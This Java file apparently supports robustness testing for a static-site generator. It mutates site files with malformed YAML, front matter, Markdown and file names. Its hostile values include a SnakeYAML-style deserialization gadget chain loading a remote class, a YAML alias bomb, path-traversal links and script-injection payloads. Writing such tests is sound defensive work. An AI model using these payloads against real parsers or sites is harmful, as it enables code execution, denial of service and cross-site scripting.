package dev.pamphlet.cli;

import java.nio.charset.StandardCharsets;
import java.text.Normalizer;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import java.util.function.BiFunction;

/**
 * Sites made hostile on purpose, from a seed: a valid site's files with a few of a long list of mutations applied
 * to front matter, YAML files, Markdown bodies and file names. The same seed always makes the same site, so a
 * failing case is reproduced by its seed alone.
 */
final class HostileSites {
    /** One change to a site's files; says what it did, for the report of a failing case. */
    private record Mutation(String name, BiFunction<Map<String, byte[]>, Random, String> apply) {}

    /** A site to build: its files by path, and the mutations that made it. */
    record Case(long seed, Map<String, byte[]> files, List<String> mutations) {}

    private static final String[] PAGES = {
        "index.md",
        "index.cy.md",
        "index.ar.md",
        "parking.md",
        "opening-hours.md",
        "opening-hours.cy.md",
        "opening-hours.ar.md"
    };
    private static final String[] YAML = {"site.yml", "messages/cy.yml", "glossary.yml", "glossary.cy.yml"};
    private static final String[] FRONT_MATTER_KEYS = {
        "title",
        "summary",
        "reviewed",
        "review_due",
        "order",
        "draft",
        "sources",
        "translates_review",
        "tags",
        "extra",
        "author"
    };
    private static final String[] SITE_KEYS = {
        "title",
        "description",
        "languages",
        "language",
        "base_url",
        "publisher",
        "feedback",
        "pdf",
        "overdue",
        "max_reading_age",
        "date_format",
        "reference"
    };

    private final List<Mutation> mutations = List.of(
            new Mutation("front matter value", HostileSites::frontMatterValue),
            new Mutation("front matter value", HostileSites::frontMatterValue),
            new Mutation("front matter shape", HostileSites::frontMatterShape),
            new Mutation("YAML value", HostileSites::yamlValue),
            new Mutation("YAML value", HostileSites::yamlValue),
            new Mutation("YAML shape", HostileSites::yamlShape),
            new Mutation("Markdown block", HostileSites::markdownBlock),
            new Mutation("Markdown block", HostileSites::markdownBlock),
            new Mutation("Markdown block", HostileSites::markdownBlock),
            new Mutation("file name", HostileSites::fileName),
            new Mutation("bytes", HostileSites::bytes));

    private final Map<String, byte[]> base;

    HostileSites(Map<String, byte[]> base) {
        this.base = base;
    }

    Case make(long seed) {
        Random random = new Random(seed);
        Map<String, byte[]> files = new TreeMap<>(base);
        List<String> done = new ArrayList<>();
        int count = 1 + random.nextInt(3);
        for (int i = 0; i < count; i++) {
            Mutation m = mutations.get(random.nextInt(mutations.size()));
            done.add(m.name() + ": " + m.apply().apply(files, random));
        }
        return new Case(seed, files, done);
    }

    // ---- the hostile values ---------------------------------------------------------------------------------

    /** A YAML value an author (or an attacker) could write after {@code key: }. */
    static String hostileValue(Random r) {
        return switch (r.nextInt(34)) {
            case 0 -> "2025-02-30";
            case 1 -> "2025-13-01";
            case 2 -> "99999-01-01";
            case 3 -> "0000-00-00";
            case 4 -> "2025-1-1";
            case 5 -> "yesterday";
            case 6 -> "";
            case 7 -> "&a [*a]";
            case 8 -> "*nowhere";
            case 9 -> "&x {a: 1, b: *x}";
            case 10 -> "!!set {a, b}";
            case 11 -> "!!binary aGVsbG8=";
            case 12 -> "!!java.lang.Runtime {}";
            case 13 ->
                "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]";
            case 14 -> "!custom thing";
            case 15 -> "!!timestamp 2020-01-01";
            case 16 -> "!!int abc";
            case 17 -> "A\u0000B";
            case 18 -> "\u001b[31mRed\u001b[0m";
            case 19 -> "\"\\e[2J\\x00\"";
            case 20 -> "[".repeat(depth(r)) + "]".repeat(r.nextInt(3));
            case 21 -> "{a: ".repeat(depth(r)) + "1" + "}".repeat(r.nextInt(3));
            case 22 -> "x".repeat(1 + r.nextInt(300_000));
            case 23 -> "\"" + "\\u00e9".repeat(1 + r.nextInt(20_000)) + "\"";
            case 24 -> "|\n  " + "line\n  ".repeat(1 + r.nextInt(5000));
            case 25 -> "[" + "x, ".repeat(1 + r.nextInt(50_000)) + "x]";
            case 26 -> "1e400";
            case 27 -> "-99999999999999999999";
            case 28 -> ".nan";
            case 29 -> "? [a]\n: b";
            case 30 -> "\"unclosed";
            case 31 -> "'it''s ''quoted'''";
            case 32 -> "\uFEFF\uFFFE\uD800";
            default -> "{0} {1} {99} {0,number,#} {";
        };
    }

    private static int depth(Random r) {
        return r.nextBoolean() ? 1 + r.nextInt(200) : 1 + r.nextInt(50_000);
    }

    /** A few lines of Markdown to put into a page's body. */
    static String hostileBlock(Random r) {
        int n = r.nextBoolean() ? 1 + r.nextInt(60) : 1 + r.nextInt(20_000);
        return switch (r.nextInt(24)) {
            case 0 -> "> ".repeat(n) + "deep quote";
            case 1 -> nestedList(Math.min(n, 2000), "- ");
            case 2 -> nestedList(Math.min(n, 2000), "1. ");
            case 3 -> "[".repeat(n) + "text" + "](x.md)".repeat(r.nextInt(3));
            case 4 -> "*".repeat(n) + "text" + "_".repeat(n);
            case 5 -> "*a **b ".repeat(n);
            case 6 -> nestedCallouts(Math.min(n, 2000), r);
            case 7 -> "!!! note \"" + "x".repeat(n) + "\"\n    body";
            case 8 -> "!!!";
            case 9 -> "!!! urgent \"Unclosed\n    body";
            case 10 -> "word ".repeat(1 + r.nextInt(200_000));
            case 11 -> "[l](missing-page.md) ".repeat(Math.min(n, 3000));
            case 12 -> "[l](" + "a/".repeat(n) + "x.md)";
            case 13 -> "[l](" + "../".repeat(n) + "x.md)";
            case 14 -> "![pic](" + "%".repeat(n) + ")";
            case 15 -> "text with NUL \u0000 and ESC \u001b[31m and DEL \u007f";
            case 16 -> "```\n" + "code\n".repeat(n);
            case 17 -> "<div>".repeat(n) + "html";
            case 18 -> "| a |\n|---|\n" + "| x ".repeat(Math.min(n, 5000)) + "|";
            case 19 -> "#".repeat(1 + r.nextInt(10)) + " " + "Heading ".repeat(n);
            case 20 -> "[l](#" + "x".repeat(n) + ")";
            case 21 -> "---\ntitle: second front matter\n---";
            case 22 -> "\t".repeat(n) + "- tabbed";
            default -> "[l](javascript:alert(1)) <script>alert(1)</script> [m](data:text/html,x)";
        };
    }

    private static String nestedList(int depth, String marker) {
        StringBuilder sb = new StringBuilder();
        for (int i = 0; i < depth; i++) {
            sb.append("    ".repeat(i)).append(marker).append("item ").append(i).append('\n');
        }
        return sb.toString();
    }

    private static String nestedCallouts(int depth, Random r) {
        String[] kinds = {"note", "info", "warning", "urgent", "non-urgent", "unknown"};
        StringBuilder sb = new StringBuilder();
        for (int i = 0; i < depth; i++) {
            sb.append("    ".repeat(i))
                    .append("!!! ")
                    .append(kinds[r.nextInt(kinds.length)])
                    .append('\n');
        }
        return sb.append("    ".repeat(depth)).append("inside\n").toString();
    }

    // ---- the mutations ----------------------------------------------------------------------------------------

    private static String frontMatterValue(Map<String, byte[]> files, Random r) {
        String page = pick(PAGES, r);
        String key = r.nextInt(8) == 0 ? "unknown_" + r.nextInt(10) : pick(FRONT_MATTER_KEYS, r);
        String value = hostileValue(r);
        put(files, page, setKey(text(files, page), key, value));
        return page + " " + key + ": " + shown(value);
    }

    private static String frontMatterShape(Map<String, byte[]> files, Random r) {
        String page = pick(PAGES, r);
        String text = text(files, page);
        int second = text.indexOf("\n---\n");
        if (second < 0) { // an earlier mutation took the front matter apart
            put(files, page, "");
            return page + " emptied";
        }
        String changed;
        String what;
        switch (r.nextInt(7)) {
            case 0 -> {
                changed = text.substring(0, second) + text.substring(second + 4);
                what = "no closing ---";
            }
            case 1 -> {
                changed = "\uFEFF" + text.replace("\n", "\r\n");
                what = "BOM and CRLF";
            }
            case 2 -> {
                changed = text.replace("\n  ", "\n\t");
                what = "tabs for indentation";
            }
            case 3 -> {
                changed = text.replaceFirst("\ntitle:", "\ntitle: one\ntitle:");
                what = "a key twice";
            }
            case 4 -> {
                changed = "---\n" + "a: &a [x, x, x, x, x, x, x, x, x]\n"
                        + "b: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\n"
                        + "c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]\n"
                        + "d: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c]\n"
                        + "e: &e [*d, *d, *d, *d, *d, *d, *d, *d, *d]\n"
                        + "f: [*e, *e, *e, *e, *e, *e, *e, *e, *e]\n"
                        + text.substring(4);
                what = "alias bomb";
            }
            case 5 -> {
                changed = "";
                what = "empty file";
            }
            default -> {
                changed = text.substring(0, second);
                what = "front matter only, never closed";
            }
        }
        put(files, page, changed);
        return page + " " + what;
    }

    private static String yamlValue(Map<String, byte[]> files, Random r) {
        String file = pick(YAML, r);
        String key = switch (file) {
            case "site.yml" -> r.nextInt(8) == 0 ? "unknown_key" : pick(SITE_KEYS, r);
            case "messages/cy.yml" -> pick(new String[] {"site.title", "site.description", "nav.home", "x.y"}, r);
            default -> pick(new String[] {"front desk", "clinic", "&a", "*a", "? x"}, r);
        };
        String value = hostileValue(r);
        put(files, file, setKey(text(files, file), key, value));
        return file + " " + key + ": " + shown(value);
    }

    private static String yamlShape(Map<String, byte[]> files, Random r) {
        String file = pick(YAML, r);
        String text = text(files, file);
        String what;
        String changed;
        switch (r.nextInt(5)) {
            case 0 -> {
                changed = "- a list\n- not a mapping\n";
                what = "a list";
            }
            case 1 -> {
                changed = "  ".repeat(1 + r.nextInt(3)) + text;
                what = "indented";
            }
            case 2 -> {
                changed = text + "\n" + "nested:\n" + nestedMap(1 + r.nextInt(3000));
                what = "deep mapping";
            }
            case 3 -> {
                changed = "%YAML 1.1\n--- !!map\n" + text + "\n---\nsecond: document\n";
                what = "directives and documents";
            }
            default -> {
                changed = "";
                what = "empty";
            }
        }
        put(files, file, changed);
        return file + " " + what;
    }

    private static String nestedMap(int depth) {
        StringBuilder sb = new StringBuilder();
        for (int i = 1; i <= depth; i++) {
            sb.append("  ".repeat(i)).append("k").append(i).append(":\n");
        }
        return sb.append("  ".repeat(depth + 1)).append("v\n").toString();
    }

    private static String markdownBlock(Map<String, byte[]> files, Random r) {
        String page = pick(PAGES, r);
        String block = hostileBlock(r);
        put(files, page, text(files, page) + "\n" + block + "\n");
        return page + " + " + shown(block);
    }

    private static String fileName(Map<String, byte[]> files, Random r) {
        String page = "---\ntitle: Another\nsummary: Another page.\nreviewed: 2026-01-10\nreview_due: 2028-01-10\n"
                + "sources:\n  - title: Clinic handbook\n    url: https://clinic.example.org/handbook\n---\n\nText.\n";
        String composed = "café";
        String decomposed = Normalizer.normalize(composed, Normalizer.Form.NFD);
        List<String> names = switch (r.nextInt(9)) {
            case 0 -> List.of(composed + ".md", decomposed + ".md");
            case 1 -> List.of(decomposed + ".md");
            case 2 -> List.of("n".repeat(200 + r.nextInt(52)) + ".md");
            case 3 -> List.of("d".repeat(200) + "/" + "e".repeat(200) + "/" + "f".repeat(200) + ".md");
            case 4 -> List.of("with space #hash ?q %41.md");
            case 5 -> List.of("Parking.md");
            case 6 -> List.of("index.MD", ".hidden.md", "-dash.md");
            case 7 -> List.of("ctrl\u001b[31m.md");
            default -> List.of("opening-hours.xx.md", "index.en-GB.md");
        };
        names.forEach(n -> put(files, n, page));
        return String.join(", ", names.stream().map(HostileSites::shown).toList());
    }

    private static String bytes(Map<String, byte[]> files, Random r) {
        List<String> paths = new ArrayList<>(files.keySet());
        paths.removeIf(p -> !p.endsWith(".md") && !p.endsWith(".yml"));
        String path = paths.get(r.nextInt(paths.size()));
        byte[] b = files.get(path).clone();
        int flips = 1 + r.nextInt(8);
        for (int i = 0; i < flips && b.length > 0; i++) {
            b[r.nextInt(b.length)] = (byte) r.nextInt(256);
        }
        files.put(path, b);
        return path + " " + flips + " bytes changed";
    }

    // ---- helpers ----------------------------------------------------------------------------------------------

    /** Replaces {@code key}'s line in the front matter or YAML file, or adds it when there is none. */
    private static String setKey(String text, String key, String value) {
        boolean front = text.startsWith("---\n");
        int start = front ? 4 : 0;
        int end = front ? Math.max(start, text.indexOf("\n---\n", start) + 1) : text.length();
        if (front && end == start) {
            return text;
        }
        String head = text.substring(start, end);
        String line = key + ": " + value + "\n";
        int at = head.startsWith(key + ":") ? 0 : head.indexOf("\n" + key + ":") + 1;
        String changed;
        if (at > 0 || head.startsWith(key + ":")) {
            int eol = head.indexOf('\n', at);
            changed = head.substring(0, at) + line + (eol < 0 ? "" : head.substring(eol + 1));
        } else {
            changed = (head.isEmpty() || head.endsWith("\n") ? head : head + "\n") + line;
        }
        return text.substring(0, start) + changed + text.substring(end);
    }

    private static String pick(String[] from, Random r) {
        return from[r.nextInt(from.length)];
    }

    private static String text(Map<String, byte[]> files, String path) {
        byte[] b = files.get(path);
        return b == null ? "" : new String(b, StandardCharsets.UTF_8);
    }

    private static void put(Map<String, byte[]> files, String path, String text) {
        files.put(path, text.getBytes(StandardCharsets.UTF_8));
    }

    /** A value as the report of a failing case shows it: short, control characters visible. */
    static String shown(String s) {
        return visible(s, 60);
    }

    /** The first {@code most} characters of {@code s}, control characters written as escapes. */
    static String visible(String s, int most) {
        StringBuilder out = new StringBuilder();
        for (int i = 0; i < s.length() && out.length() < most; i++) {
            char c = s.charAt(i);
            out.append(c < ' ' || c == 0x7F ? String.format("\\u%04X", (int) c) : String.valueOf(c));
        }
        return out.length() < s.length() ? out + "… (" + s.length() + " chars)" : out.toString();
    }
}
